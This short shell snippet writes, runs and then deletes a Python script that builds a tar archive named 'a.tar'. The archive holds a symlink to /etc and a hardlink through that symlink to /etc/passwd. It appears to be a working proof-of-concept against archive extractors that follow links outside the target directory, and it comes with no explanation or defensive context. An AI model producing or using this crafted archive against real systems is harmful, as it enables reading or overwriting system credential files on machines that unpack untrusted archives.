cat > m.py <<'E'
import tarfile,io
t=tarfile.open('a.tar','w')
s=tarfile.TarInfo('s'); s.type=tarfile.SYMTYPE; s.linkname='/etc'; t.addfile(s)
l=tarfile.TarInfo('h'); l.type=tarfile.LNKTYPE; l.linkname='s/passwd'; t.addfile(l)
t.close()
E
python3 m.py
rm m.py
